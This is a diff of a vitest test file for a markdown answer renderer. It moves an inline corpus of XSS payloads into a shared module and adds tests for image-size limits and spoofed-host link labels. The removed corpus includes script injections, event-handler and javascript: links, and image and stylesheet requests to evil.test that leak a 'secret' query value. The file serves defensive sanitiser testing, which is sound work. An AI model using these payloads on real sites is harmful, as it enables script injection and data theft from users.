@@ -2,70 +2,11 @@
 
 import { describe, expect, it } from "vitest";
 
+import { otherHost } from "../../src/text/urls.js";
 import { begin } from "../support/answers.js";
+import { ATTACKS, wrong } from "../support/attacks.js";
 
-const CORPUS = [
-  "<script>top.hit(1)</script>",
-  "<img src=x onerror=hit(2)>",
-  "<svg/onload=hit(3)><animate onbegin=hit(3) attributeName=x>",
-  "<iframe srcdoc=\"<script>hit(4)</script>\"></iframe>",
-  "<a href=javascript:hit(5)>go</a> <form action=//evil.test><button>ok</button></form>",
-  "<style>@import '//evil.test/a.css';</style>\n\n<link rel=stylesheet href=//evil.test/b.css>",
-  "<base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test'>",
-  "<details open ontoggle=hit(6)>\n\ntext\n\n</details>",
-  "<!--><img src=x onerror=hit(7)>-->",
-  "<math><mtext><table><mglyph><style><img src=x onerror=hit(8)></style>",
-  "[go](javascript:hit(9)) [go](JaVaScRiPt:hit(9)) [go](java\tscript:hit(9))",
-  "[go](<java\nscript:hit(10)>) [go](&#106;avascript:hit(10)) [go](javascript&colon;hit(10))",
-  "[go](data:text/html,<script>hit(11)</script>) [go](vbscript:hit(11)) [go](file:///etc/passwd)",
-  "[go][x]\n\n[x]: javascript:hit(12) \"onclick=hit(12)\"",
-  "<javascript:hit(13)> <data:text/html;base64,PHNjcmlwdD4=>",
-  "[go](https://ok.test \"x\\\" onmouseover=\\\"hit(14)\")",
-  "[go](https://ok.test/\"onmouseover=\"hit(15)) [blob](blob:https://ok.test/1)",
-  "![x](https://evil.test/?q=secret) ![y](//evil.test/z.png) ![z](javascript:hit(16))",
-  "![\" onerror=\"hit(17)](data:image/png;base64,AAAA) ![s](data:image/svg+xml,<svg/onload=hit(17)>)",
-  "![x][p]\n\n[p]: https://evil.test/p.gif",
-  "`<img src=x onerror=hit(18)>` and ``<b>`` and\n\n    <script>hit(18)</script>",
-  "```html\" onmouseover=\"hit(19)\n<script>hit(19)</script>\n```",
-  "```<img/src=x/onerror=hit(20)>\ncode\n```",
-  "| <img src=x onerror=hit(21)> | b |\n|---|---|\n| <script>hit(21)</script> | [c](javascript:hit(21)) |",
-  "- [ ] <input autofocus onfocus=hit(22)>\n- [x] <video><source onerror=hit(22)></video>",
-  "[^<img onerror=hit(23)>] [^a]\n\n[^a]: <script>hit(23)</script> [x](javascript:hit(23))",
-  "\\(\\href{javascript:hit(24)}{x}\\) \\(\\includegraphics{https://evil.test/a.png}\\)",
-  "$$\\htmlData{onclick=hit(25)}{x}\\url{javascript:hit(25)}$$",
-  "\ufdd00\ufdd1 \ufdd099\ufdd1 \u202e[go](https://ok.test/\u202etset)",
-  "**<b onclick=hit(26)>** __<i onclick=hit(26)>__ ~~<s onclick=hit(26)>~~",
-  "[https://bank.test](https://evil.test) [bank.test](https://bank.test@evil.test/)",
-  "&lt;script&gt;hit(27)&lt;/script&gt; &#60;img src=x onerror=hit(27)&#62;",
-];
-
-const ELEMENTS = new Set(
-  ("a p h2 h3 h4 h5 h6 ul ol li blockquote table thead tbody tr th td colgroup col hr br strong em del code pre div span " +
-    "button input label sup section img").split(" "),
-);
-const ATTRIBUTES = new Set(
-  ("class dir translate rel target href title start align type disabled tabindex role aria-label aria-pressed id value alt " +
-    "loading decoding referrerpolicy src data-source data-src data-alt data-label").split(" "),
-);
-
-/** Return what there is in an answer that must not be. */
-function wrong(element: HTMLElement): string[] {
-  const found: string[] = [];
-  for (const node of element.querySelectorAll("*")) {
-    // KaTeX has elements of its own, which lead nowhere.
-    const formula = !!node.closest(".math");
-    if (!formula && !ELEMENTS.has(node.localName)) found.push(node.localName);
-    for (const { name, value } of node.attributes) {
-      if (!formula && !ATTRIBUTES.has(name)) found.push(`${node.localName} ${name}`);
-      if (formula && /^(?:on|src|href|xlink)/.test(name)) found.push(`${node.localName} ${name}`);
-      if (name === "href" && !/^(?:https?:|mailto:|tel:|#notes-)/.test(value)) found.push(value);
-      if (name === "src" && !/^data:image\/(?!svg)/.test(value)) found.push(value);
-    }
-  }
-  return found;
-}
-
-describe.each(CORPUS)("%s", (text) => {
+describe.each(ATTACKS)("%s", (text) => {
   it("is never more than text", () => {
     const { piece, element, answer } = begin();
     const found: string[] = [];
@@ -80,8 +21,8 @@ describe.each(CORPUS)("%s", (text) => {
 
 it("no pair of such texts becomes more than text", () => {
   const found: string[] = [];
-  for (const first of CORPUS) {
-    for (const second of CORPUS) {
+  for (const first of ATTACKS) {
+    for (const second of ATTACKS) {
       const { answer, element } = begin();
       answer.set(`${first} ${second}`);
       found.push(...wrong(element));
@@ -101,9 +42,63 @@ it("a picture of another host is loaded when its button is pressed, which names 
   expect([image.src, image.alt, image.getAttribute("referrerpolicy")]).toEqual(["https://far.test/map.png?q=1", "a map", "no-referrer"]);
 });
 
+it.each(["/ai/logout", "map.png", `${location.origin}/map.png`])("the picture %s of this host is not loaded either before its button is pressed", (address) => {
+  const { answer, element } = begin();
+  answer.set(`![a map](${address})`);
+  expect(element.querySelector("img")).toBeNull();
+  expect(element.querySelector("button")!.textContent).toBe(`Show the picture a map from ${location.host}`);
+  const inside = begin();
+  inside.answer.set(`![a map](${data("png", png(10, 10))})`);
+  expect(inside.element.querySelector("img")!.src).toBe(data("png", png(10, 10)));
+});
+
+const data = (kind: string, bytes: number[], more = 0) => `data:image/${kind};base64,${btoa(String.fromCharCode(...bytes))}${"A".repeat(more)}`;
+const png = (width: number, height: number) => [0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, width >> 8, width & 255, 0, 0, height >> 8, height & 255];
+const jpeg = (width: number, height: number) => [0xff, 0xd8, 0xff, 0xe0, 0, 4, 1, 1, 0xff, 0xff, 0xc2, 0, 11, 8, height >> 8, height & 255, width >> 8, width & 255];
+const gif = (width: number, height: number) => [0x47, 0x49, 0x46, 0x38, 0x39, 0x61, width & 255, width >> 8, height & 255, height >> 8];
+
+it.each([
+  data("png", png(9000, 1)), data("png", png(1, 9000)), data("jpeg", jpeg(9000, 20)), data("png", jpeg(20, 9000)), data("gif", gif(9000, 1)),
+  data("png", png(1, 1), 400_000), data("webp", [], 400_000),
+  data("png;a=b", png(9000, 1)), "data:image/png;,%89PNG", data("jpeg", [0xff, 0xd8, 0xff, 0xe0]), data("png", []), data("png", [], 1), data("avif", [], 40),
+])("a picture in the text that may take much memory is shown when its button is pressed (%#)", (src) => {
+  const { answer, element } = begin();
+  answer.set(`![a map](${src})`);
+  expect(element.querySelector("img")).toBeNull();
+  element.querySelector("button")!.click();
+  expect(element.querySelector("img")!.src).toBe(src);
+});
+
+it.each([data("png", png(8000, 10)), data("jpeg", jpeg(800, 600)), data("png;a=b", png(10, 10))])(
+  "any other picture in the text is shown at once (%#)",
+  (src) => {
+    const { answer, element } = begin();
+    answer.set(`![a map](${src})`);
+    expect(element.querySelector("img")!.src).toBe(src);
+  },
+);
+
 it("a link whose text names another host says where it leads", () => {
   const { answer, element } = begin();
   answer.set("[bank.test](https://evil.test/x), [see https://a.test/b](https://a.test/c), [so](https://b.test), [www.c.test](https://c.test)");
   expect([...element.querySelectorAll("a")].map((link) => link.textContent)).toEqual(["bank.test (evil.test)", "see https://a.test/b", "so", "www.c.test"]);
   expect(element.querySelector("a")!.rel).toBe("noopener noreferrer nofollow");
+});
+
+it.each([
+  "“bank.test”", "Log in at bank.test.", "bank。test", "bank\u200b.test", "bank．test", "ba\u00adnk.test", "10.0.0.1", "evil.test and bank.test", "登录bank.test查看",
+  "https://bank.test@evil.test/", "bank.test:443", "<bank.test>", "bánk.test", "bank.xn--p1ai",
+])("the text %s of a link is named as another host", (text) => {
+  expect(otherHost(text, new URL("https://evil.test/x"))).toBe("evil.test");
+});
+
+it.each(["evil.test", "www.Evil.test.", "https://evil.test/main.py?a=b.cd", "evil.test/main.py", "第一句。第二句", "Python 3.12", "and so on... then", "e.g. this", "evil.test:443"])(
+  "the text %s of a link is that of its host, or of none",
+  (text) => expect(otherHost(text, new URL("https://evil.test/x"))).toBeUndefined(),
+);
+
+it.each(["> ", "- ", "1. ", "[^a]: ", "*a ", "**[", "&amp", "~~a ", "[a](", "![a]("])("%s in itself is text where it is too deep", (sign) => {
+  const { answer, element } = begin();
+  answer.set(`${sign.repeat(3000)}the end`);
+  expect(element.textContent).toContain("the end");
 });
